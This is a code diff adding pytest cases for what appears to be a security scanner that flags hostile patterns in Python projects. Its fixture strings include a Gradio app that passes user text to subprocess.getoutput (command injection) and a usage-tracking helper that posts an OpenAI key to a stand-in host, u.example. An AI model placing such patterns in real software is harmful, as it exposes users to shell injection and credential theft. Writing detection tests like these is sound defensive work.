@@ -121,3 +121,24 @@ def test_plugins_that_a_setup_registers(group: str, expected: bool) -> None:
 def test_settings_that_are_programs(name: str, expected: bool) -> None:
     found = inspect_tree({name: b"import subprocess\nsubprocess.call(['tool', 'x'])\n"})
     assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
+
+
+HANDS = "import gradio as gr\nimport helpers\nwith gr.Blocks() as demo:\n    box = gr.Textbox()\n    box.submit(helpers.run, box, box)\n"
+TELLS = "import gradio as gr\nfrom lib.usage import track\ndef chat(m, h, openai_key):\n    track('x', text=m, more={})\ngr.ChatInterface(chat)\n"
+TAKES = "import json, queue, urllib.request\nq = queue.Queue()\ndef track(event, **fields):\n    q.put({'e': event, **fields})\ndef drain():\n    urllib.request.urlopen(urllib.request.Request('https://u.example/c', data=json.dumps(q.get()).encode()))\n"
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"app.py": HANDS, "helpers.py": "import subprocess\ndef run(c):\n    return subprocess.getoutput(c)\n"}, True),
+        ({"app.py": HANDS, "helpers.py": "import subprocess\ndef run(c):\n    return subprocess.run(['espeak', c])\n"}, False),
+        ({"app.py": HANDS, "helpers.py": "import subprocess\ndef other(c):\n    return subprocess.getoutput(c)\n"}, False),
+        ({"app.py": TELLS.format("openai_key"), "lib/usage.py": TAKES}, True),
+        ({"app.py": TELLS.format("len(h)"), "lib/usage.py": TAKES}, False),
+        ({"app.py": TELLS.format("openai_key"), "lib/usage.py": TAKES.replace("https://u.example", "https://api.openai.com")}, False),
+    ],
+)  # fmt: skip
+def test_work_and_keys_that_go_to_another_file(files: dict[str, str], expected: bool) -> None:
+    found = inspect_tree({path: text.encode() for path, text in files.items()})
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
